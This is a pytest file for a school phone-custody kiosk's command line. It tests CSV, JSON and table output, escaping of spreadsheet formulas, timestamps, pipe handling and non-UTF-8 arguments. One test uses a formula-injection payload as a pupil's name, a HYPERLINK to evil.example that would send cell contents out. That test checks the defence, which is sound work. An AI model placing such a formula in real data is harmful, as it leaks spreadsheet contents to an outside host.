"""Spreadsheets out, on the command line: every listing's CSV has its header row even when empty, neutralises a
formula typed as a name or a purpose, writes yes/no and times to the second as the table and the contract say; a
table shows the year of a time from another school year; `kiosk … | head -1` ends quietly; an argument with bytes
that are not UTF-8 gets one sentence and exit 1."""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import shlex
import subprocess
import sys
from datetime import datetime, timezone

import pytest
from PIL import Image

from db import tags
from db.core import COMMAND_LINE
from db.core.models import Pupil
from db.phones import phones_held
from kiosk.cli import build_parser
from tagcodes import TagKind, new_code
from tests.conftest import LONDON
from tests.photos import personal_phone

LOANS = "device,staff,class,purpose,out,returned,images,verified,uploaded_by,uploaded_at,wiped,status"
PROVENANCE = "file,device,captured,registered,make,model,serial,loan,note,duplicate_of"
# Every command that takes --format: its arguments, and its header row (the contract's keys, in order).
LISTINGS = {
    ("tags", "list"): ((), "code,kind,label,description"),
    ("phone", "where"): ((), "code,pupil,class,location,since,by,status,description"),
    ("parents", "pending"): ((), "pupil,class,reason,since"),
    ("report", "custody"): ((), "entry,at,action,code,pupil,class,location,by,kiosk,note,voided_by"),
    ("report", "stock-takes"): ((), "entry,at,place,by,expected,found,missing,not_expected,phones"),
    ("report", "devices"): ((), LOANS),
    ("report", "provenance"): (("--folder", "{empty}"), PROVENANCE),
    ("staff", "phones"): ((), "staff,code,reason,approved_by,from,to,status"),
    ("exception", "list"): ((), "pupil,class,kind,conditions,approved_by,approved_at,review_on,status"),
    ("pupil", "find"): (("zzqx",), "pupil,name,class,tag"),
    ("restore",): (("--list",), "file,newest,records,anchor"),
}
# Never empty: the one upload it records; the school's row of the phone-rules figures (tests/cli/test_policy_cli.py);
# a stock-take lists what it records, so it needs a school first (its header is checked in its own tests).
ONE_ROW = {("device", "uploaded"), ("report", "policy"), ("cupboard", "check")}
DEVICES = "Asset Tag,Type,Name,Make,Model,Serial\r\nCAM-01,camera,Canon 1,Canon,EOS 2000D,012345678901\r\n"
KIOSK = [sys.executable, "-m", "kiosk.cli"]


def commands_with_format(parser: argparse.ArgumentParser, path: tuple[str, ...] = ()):
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            for name, sub in action.choices.items():
                yield from commands_with_format(sub, (*path, name))
        elif "--format" in action.option_strings:
            yield path


def test_every_listing_is_checked_here():
    # A new listing must say its header row here (and pass its keys to emit).
    assert set(commands_with_format(build_parser())) == set(LISTINGS) | ONE_ROW


@pytest.mark.parametrize("command", list(LISTINGS), ids=" ".join)
def test_a_listing_with_no_rows_still_writes_its_header_row(kiosk, command, tmp_path):
    args, header = LISTINGS[command]
    (tmp_path / "empty").mkdir()
    args = [arg.format(empty=tmp_path / "empty") for arg in args]
    assert kiosk(*command, *args, "--format", "csv") == (0, f"{header}\n", "")
    assert kiosk(*command, *args, "--format", "json")[:2] == (0, "[]\n")


def add_pupil(database, first: str, surname: str) -> str:
    """A Year 4 pupil with a phone tag; the tag's code."""
    with database.writing() as session:
        session.add(Pupil(adno="2001", legal_first=first, surname=surname, year=4, class_name="4B"))
        session.commit()
    return tags.issue_phone_tag(database, "2001", lambda: new_code(TagKind.PHONE), by=COMMAND_LINE).code


def test_a_pupil_named_as_a_formula_is_text_in_the_csv_and_times_are_to_the_second(kiosk, database, school, clock):
    link = '=HYPERLINK("http://evil.example/?"&A1,"Amira")'
    code = add_pupil(database, link, "Khan")
    clock.moment = datetime(2026, 11, 10, 8, 40, 12, 345678, tzinfo=timezone.utc)
    assert kiosk("phone", "in", code, "--by", "LPA")[0] == 0
    _, out, _ = kiosk("phone", "where", "--format", "csv")
    assert out.splitlines()[0] == LISTINGS["phone", "where"][1]
    assert out.splitlines()[1].startswith(f'{code},"\'=HYPERLINK(""http://evil.example/?""&A1,""Amira"") Khan",4B,'
                                          'Office,2026-11-10T08:40:12+00:00,Lucy Patel,held,')
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["pupil"] == f"'{link} Khan" and row["since"] == "2026-11-10T08:40:12+00:00"
    (held,) = json.loads(kiosk("phone", "where", "--format", "json")[1])
    assert held["pupil"] == f"{link} Khan" and held["since"] == "2026-11-10T08:40:12+00:00"  # JSON: data as it is
    _, out, _ = kiosk("parents", "pending", "--format", "csv")
    assert out.splitlines()[1].endswith(",2026-11-10T08:40:12+00:00")
    _, out, _ = kiosk("export", "pupil", "2001")  # the subject access export's times too
    assert "2026-11-10T08:40:12+00:00" in out and ".345678" not in out


def test_a_table_shows_the_year_only_for_a_time_from_another_school_year(kiosk, database, school, clock):
    code = add_pupil(database, "Ola", "Nowak")
    clock.moment = datetime(2026, 11, 10, 8, 40, tzinfo=LONDON)
    kiosk("phone", "in", code, "--by", "LPA")
    assert "Tue 10 Nov 08:40" in kiosk("phone", "where")[1]
    clock.moment = datetime(2027, 8, 31, 15, 0, tzinfo=LONDON)  # the last day of that school year
    assert "Tue 10 Nov 08:40" in kiosk("phone", "where")[1]
    clock.moment = datetime(2027, 9, 6, 8, 40, tzinfo=LONDON)  # the next school year: the phone is still held
    _, table, _ = kiosk("phone", "where")
    assert "Tue 10 Nov 2026 08:40" in table
    assert "Tue 10 Nov 2026 08:40" in kiosk("parents", "pending")[1]
    assert "2026-11-10T08:40:00+00:00" in kiosk("phone", "where", "--format", "csv")[1]  # CSV: ISO, as ever


def test_yes_no_in_the_csv_as_in_the_table_and_a_purpose_typed_as_a_formula_is_text(kiosk, school, clock, tmp_path):
    (tmp_path / "devices.csv").write_text(DEVICES, encoding="utf-8", newline="")
    assert kiosk("import", "devices", str(tmp_path / "devices.csv"))[0] == 0
    clock.moment = datetime(2026, 11, 10, 9, 0, tzinfo=LONDON)
    assert kiosk("device", "out", "CAM-01", "--by", "LPA", "--class", "4B", "--purpose", "=1+1")[0] == 0
    kiosk("device", "return", "CAM-01", "--by", "LPA", "--images", "2")
    kiosk("device", "uploaded", "CAM-01", "--by", "LPA")  # not wiped yet
    _, out, _ = kiosk("report", "devices", "--format", "csv")
    (row,) = csv.DictReader(io.StringIO(out))
    assert (row["purpose"], row["out"], row["images"], row["verified"], row["wiped"]) == (
        "'=1+1", "2026-11-10T09:00:00+00:00", "2", "", "no")
    assert ',"\'=1+1",' in out
    line = kiosk("report", "devices")[1].splitlines()[1]
    assert "  =1+1  " in line and line.split()[-2:] == ["no", "unverified"]  # a table is for people: text as typed
    personal_phone(tmp_path / "Drive" / "phone.jpg", datetime(2026, 11, 10, 10, 0))
    _, out, _ = kiosk("report", "provenance", "--folder", str(tmp_path / "Drive"), "--format", "csv")
    (row,) = csv.DictReader(io.StringIO(out))
    assert row["registered"] == "no" and row["captured"] == "2026-11-10T10:00:00+00:00"
    _, table, _ = kiosk("report", "provenance", "--folder", str(tmp_path / "Drive"))
    assert table.splitlines()[1].split()[:5] == ["phone.jpg", "samsung", "SM-S918B", "Tue", "10"]
    assert " no " in table.splitlines()[1]
    (row,) = json.loads(kiosk("report", "provenance", "--folder", str(tmp_path / "Drive"), "--format", "json")[1])
    assert row["registered"] is False


def without_unbuffered() -> dict[str, str]:
    """The environment as a school's machine has it: standard output buffered as Python does by default."""
    return {name: value for name, value in os.environ.items() if name != "PYTHONUNBUFFERED"}


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["csv", "table"])
def test_a_reader_that_stops_after_one_line_ends_the_command_quietly(database_url, tmp_path, fmt):
    # More than a pipe holds (64 KiB): the kiosk is still writing when head has gone.
    folder = tmp_path / "Drive"
    folder.mkdir()
    for n in range(500):
        Image.new("RGB", (8, 8), (n % 256, n // 256, 40)).save(folder / f"{n:03d} {'class trip ' * 16}.jpg")
    err, status = tmp_path / "stderr", tmp_path / "status"
    command = shlex.join([*KIOSK, "--db", database_url, "report", "provenance", "--folder", str(folder),
                          "--format", fmt])
    shell = f"({command} 2>{shlex.quote(str(err))}; echo $? >{shlex.quote(str(status))}) | head -1"
    result = subprocess.run(["bash", "-c", shell], capture_output=True, text=True, env=without_unbuffered(),
                            timeout=120)
    header = PROVENANCE if fmt == "csv" else PROVENANCE.upper().replace(",", " ")
    assert result.stdout.split() == header.split()
    assert err.read_text() == ""  # no traceback, no "Exception ignored", no fault sentence
    assert status.read_text() == "0\n"
    assert result.stderr == ""


@pytest.mark.slow
@pytest.mark.parametrize(("args", "shown"), [
    (["phone", "in", b"\xff\xfe", "--by", "HBR"], "\\xff\\xfe"),
    # A Windows-1252 terminal typing "Trip été": Latin-1 bytes, not UTF-8.
    (["device", "out", "CAM-01", "--by", "HBR", "--class", "6A", "--purpose", b"Trip \xe9t\xe9"], "Trip \\xe9t\\xe9"),
    ([b"--db=sqlite:///caf\xe9.db", "phone", "where"], "--db=sqlite:///caf\\xe9.db"),
    ([b"--db=sqlite:///caf\xe9.db"], "--db=sqlite:///caf\\xe9.db"),  # the kiosk itself, before its screen
    (["import", "pupils", b"Year 6 caf\xe9.csv"], "Year 6 caf\\xe9.csv"),
    (["backup", "--to", b"/media/caf\xe9"], "/media/caf\\xe9"),
])
@pytest.mark.parametrize("locale", [None, "C"])
def test_an_argument_that_is_not_utf8_gets_one_sentence_and_exit_1(database_url, database, school, args, shown,
                                                                   locale):
    env = os.environ | ({"LC_ALL": locale} if locale else {})
    result = subprocess.run([*KIOSK, "--db", database_url, *args], capture_output=True, env=env, timeout=60)
    err = result.stderr.decode("utf-8", "replace")
    assert (result.returncode, result.stdout) == (1, b"")
    assert err.splitlines() == [f"“{shown}” is not text the kiosk can read (it holds bytes that are not UTF-8): "
                                "type it again, or set the terminal to UTF-8."]
    assert phones_held(database, by=COMMAND_LINE) == []  # nothing was done


def test_a_file_name_that_is_not_utf8_is_listed_with_a_replacement_character(kiosk, school, tmp_path):
    folder = tmp_path / "Drive"
    personal_phone(folder / "phone.jpg", datetime(2026, 11, 10, 10, 0))
    os.rename(folder / "phone.jpg", os.fsencode(folder) + b"/=caf\xe9.jpg")  # a Latin-1 name, as a USB stick holds
    for fmt in ("csv", "json", "table"):
        status, out, err = kiosk("report", "provenance", "--folder", str(folder), "--format", fmt)
        assert status == 0 and "caf\ufffd.jpg" in out, err
    assert "\"'=caf\ufffd.jpg\"" in kiosk("report", "provenance", "--folder", str(folder), "--format", "csv")[1]


def test_the_header_of_a_listing_with_rows_is_the_header_it_writes_when_empty(kiosk, school):
    lines = kiosk("tags", "list", "--format", "csv")[1].splitlines()
    assert lines[0] == LISTINGS["tags", "list"][1] and len(lines) == 4
